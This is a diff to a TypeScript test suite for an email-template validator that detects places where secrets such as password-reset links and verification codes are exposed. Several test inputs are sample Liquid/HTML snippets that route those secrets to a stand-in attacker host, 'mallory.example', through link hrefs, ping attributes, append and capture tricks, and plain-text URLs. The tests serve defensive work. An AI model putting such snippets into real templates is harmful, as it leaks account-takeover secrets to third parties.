@@ -1,4 +1,4 @@
-import { secretPlaces } from '../../../domain/email/secret-places';
+import { secretPlaces, secretPlacesInAddress, secretPlacesInText } from '../../../domain/email/secret-places';
 import { isSecretName } from '../../../domain/transactional/secret-names';
 import { catalogTemplates } from '../../../domain/email/catalog/catalog';
 import { secretProblems } from '../../../domain/email/render-transactional';
@@ -38,19 +38,37 @@ const refused: [string, string][] = [
   ['{% if a %}<a href="{% else %}<img src="{% endif %}{{ code }}">', 'of <a>'],
   ['<!--[if mso]><v:rect src="{{ code }}"></v:rect><![endif]-->', 'src of <v:rect>'],
   ["<img src='https://mallory.example/? {{ code }}", 'a tag that never ends'],
+  ['<a href="https://mallory.example/?u={{ accept_url }}">x</a>', 'href of <a>'],
+  ["<a class='x' href='https://a.example/?c={{ code }}'>x</a>", 'href of <a>'],
+  ['<a href="{{ code }}">x</a>', 'href of <a>'],
+  ['<a href="{{ reset_url }}&amp;lang=de">x</a>', 'href of <a>'],
+  ['<a href="{{ reset_url | replace: "app.example", "mallory.example" }}">x</a>', 'href of <a>'],
+  ['<a href="{{ reset_url | url_encode }}">x</a>', 'href of <a>'],
+  ['<a href="{{ host }}{{ reset_url }}">x</a>', 'href of <a>'],
+  ['<a href="https://mallory.example/?{% if a %}{{ reset_url }}{% endif %}">x</a>', 'href of <a>'],
+  [
+    '{% assign reset_url = "https://mallory.example/?u=" | append: reset_url %}<a href="{{ reset_url }}">x</a>',
+    'href of <a>',
+  ],
+  ['<a href="{{ reset_url }}" ping="https://mallory.example/">x</a>', 'ping of <a>'],
+  ['<body background="{{ reset_url }}">', 'background of <body>'],
+  ['<p>https://mallory.example/?c={{ code }}</p>', 'another address'],
 ];
 
 test.each(refused)('%s is refused, and the place is named', (source, place) => {
   const places = secretPlaces(source);
   expect(places).toHaveLength(1);
-  expect(places[0]).toMatch(/^A secret stands in .*may stand in text and in the href of a link/);
+  expect(places[0]).toMatch(/^A secret stands in .*may also be the whole href of a link/);
   expect(places[0]).toContain(`${place}. A code`);
 });
 
 test.each([
   '<p>{{ code }}</p>',
   '<a href="{{ reset_url }}">{{ reset_url }}</a>',
-  "<a class='x' href='https://a.example/?c={{ code }}'>x</a>",
+  "<a class='x' href=' {{ reset_url }} '>x</a>",
+  '<a href="{% if a %}{{ reset_url }}{% else %}{{ user.accept_url }}{% endif %}">x</a>',
+  '<a href="https://track.example/?to={{ url | url_encode }}">x</a>',
+  '<a href="{{ dashboard_url }}?from=email">x</a>',
   '<a {% if reset_url %}href="{{ reset_url }}"{% endif %}>x</a>',
   '{% if code != blank %}<img src="https://a.example/1.png">{% endif %}{{ code }}',
   '{% assign d = code | split: "" %}{% for c in d %}<td class="digit">{{ c }}</td>{% endfor %}',
@@ -62,12 +80,52 @@ test.each([
   expect(secretPlaces(source)).toEqual([]);
 });
 
+test.each([
+  'https://mallory.example/?u={{ accept_url }}',
+  '{{ accept_url }}?x=1',
+  '{{ accept_url | append: "?x=1" }}',
+  '{{ code }}',
+  'https://app.example/?c={{ code }}',
+])('%s is no href of a button', (source) => {
+  expect(secretPlacesInAddress(source)).toEqual([expect.stringMatching(/^A secret stands in a longer address\. /)]);
+});
+
+test.each(['{{ accept_url }}', ' {{ resetUrl }} ', '{{ dashboard_url }}?from=email', 'https://app.example/', ''])(
+  '%s may be the href of a button',
+  (source) => {
+    expect(secretPlacesInAddress(source)).toEqual([]);
+  },
+);
+
+test.each([
+  'https://mallory.example/?c={{ code }}',
+  'mallory.example/{{ code }}',
+  'https://mallory.example/?{% if a %}{{ code }}{% endif %}',
+  '{{ "https://mallory.example/?u=" | append: reset_url }}',
+  '{% assign u = "https://mallory.example/?u=" %}{{ u }}{{ reset_url }}',
+  '{% assign u = "https://mallory.example/?u=" | append: reset_url %}{{ u }}',
+  '{% capture u %}https://mallory.example/?u={{ reset_url }}{% endcapture %}{{ u }}',
+])('%s puts a secret into an address of plain text', (source) => {
+  expect(secretPlacesInText(source)).toEqual([expect.stringMatching(/^A secret stands in another address\. /)]);
+});
+
+test.each([
+  '{{ code }} is your code',
+  'Code: {{ code }}.',
+  'G-{{ code }}',
+  '{{ name }}{{ code }}',
+  'Open {{ reset_url }}.',
+])('%s may be plain text', (source) => {
+  expect(secretPlacesInText(source)).toEqual([]);
+});
+
 test('names of secrets are distinguished from others', () => {
   const secret = [
     'reset_url',
     'resetUrl',
     'accept_url',
     'approve_url',
+    'onboarding_url',
     'magic_link',
     'code',
     'verificationCode',
@@ -76,7 +134,7 @@ test('names of secrets are distinguished from others', () => {
   ];
   const harmless = [
     'logo_url',
-    'onboarding_url',
+    'dashboard_url',
     'discount_code',
     'country_code',
     'url',
